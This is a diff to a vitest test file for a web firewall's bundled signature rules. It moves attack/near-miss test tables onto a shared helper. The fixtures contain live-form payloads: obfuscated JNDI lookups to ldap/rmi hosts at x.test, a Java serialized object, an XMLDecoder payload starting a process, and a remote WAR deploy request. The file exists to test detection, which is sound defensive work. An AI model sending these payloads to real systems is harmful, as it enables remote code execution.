@@ -5,7 +5,7 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
 import type { RequestSpec } from './fixtures.js';
-import { BROWSER, JSON_HEADERS, bundledGate, form, header, hitsOf, inspectedHitsOf, json, q, xml } from './bundled-requests.js';
+import { BROWSER, JSON_HEADERS, bundledGate, form, header, hitsOf, inspectedHitsOf, json, q, testRuleCases, xml, type RuleCase } from './bundled-requests.js';
 
 let gate: CompiledSignatureGate;
 beforeAll(async () => {
@@ -14,7 +14,7 @@ beforeAll(async () => {
 const hits = (spec: RequestSpec): Array<[number, string]> => hitsOf(gate, spec);
 
 // [sid, effect, attack, benign near miss]
-const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
+const CASES: RuleCase[] = [
   [9000804, 'block', 'a nested-lookup JNDI in a header', header('X-Api-Version', '${${lower:j}${upper:n}di:ldap://x.test/a}'), header('X-Template', 'Hello ${user.name}, see ${env.HOME}')],
   [9000804, 'block', 'a percent-encoded JNDI in a form', form('q=%24%7Bjndi%3Aldap%3A%2F%2Fx.test%2Fa%7D'), form('q=%24%7Bprice%7D+per+month')],
   [9000805, 'block', 'a JNDI lookup in the decoded URI', q('x=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx.test%2Fo%7D'), q('tpl=%24%7BmoduleName%7D%3F%24%7BDate.now()%7D')],
@@ -91,13 +91,7 @@ const CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, Request
 ];
 
 describe('bundled rules for the issue-14 attack families', () => {
-  it.each(CASES.map(([sid, effect, name, attack]) => [`${sid} ${name}`, sid, effect, attack] as const))('%s: fires', (_n, sid, effect, attack) => {
-    expect(hits(attack)).toContainEqual([sid, effect]);
-  });
-
-  it.each(CASES.map(([sid, , name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
-    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
-  });
+  testRuleCases(CASES, hits);
 
   it('9001101 reads tool names as words: a WordPress site called hydrant is no scanner', () => {
     expect(hits(header('User-Agent', 'WordPress/6.5.2; https://bogus-hydrant.us')).map(([s]) => s)).not.toContain(9001101);
@@ -108,7 +102,7 @@ describe('bundled rules for the issue-14 attack families', () => {
 // Issue 18: exploit classes and known-vulnerable endpoints. Written from what each vulnerability needs,
 // not from the exploit generator's templates; [sid, effect, attack, benign near miss].
 const xmlAt = (url: string, body: string): RequestSpec => xml(body, url);
-const EXPLOIT_CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec, RequestSpec]> = [
+const EXPLOIT_CASES: RuleCase[] = [
   [9001006, 'block', 'a base64 Java object as an XML element text', xmlAt('/rpc', '<value><serializable>rO0ABXNyABNqYXZhLnV0aWwuQXJyYXlMaXN0</serializable></value>'), xmlAt('/rpc', '<value><string>rO0 is not base64 here</string></value>')],
   [9001012, 'block', 'an XMLDecoder document starting a process', xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>'), xmlAt('/svc', '<java class="java.beans.XMLDecoder"><object class="java.util.ArrayList"><void method="add"><string>a</string></void></object></java>')],
   [9000507, 'block', 'a remote WAR handed to a deployer', q('action=invoke&arg0=http%3A%2F%2Fx.test%2Fapp.war'), q('download=https%3A%2F%2Fx.test%2Fsoftware.html&doc=war.pdf')],
@@ -128,13 +122,7 @@ const EXPLOIT_CASES: Array<[number, 'block' | 'suspicious', string, RequestSpec,
 ];
 
 describe('bundled rules for exploit classes and known-vulnerable endpoints (issue 18)', () => {
-  it.each(EXPLOIT_CASES.map(([sid, effect, name, attack]) => [`${sid} ${name}`, sid, effect, attack] as const))('%s: fires', (_n, sid, effect, attack) => {
-    expect(hits(attack)).toContainEqual([sid, effect]);
-  });
-
-  it.each(EXPLOIT_CASES.map(([sid, , name, , benign]) => [`${sid} ${name}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
-    expect(hits(benign).map(([s]) => s)).not.toContain(sid);
-  });
+  testRuleCases(EXPLOIT_CASES, hits);
 });
 
 // 9001014 reads body values as their parser does (decoded views): the request goes through the real inspector.
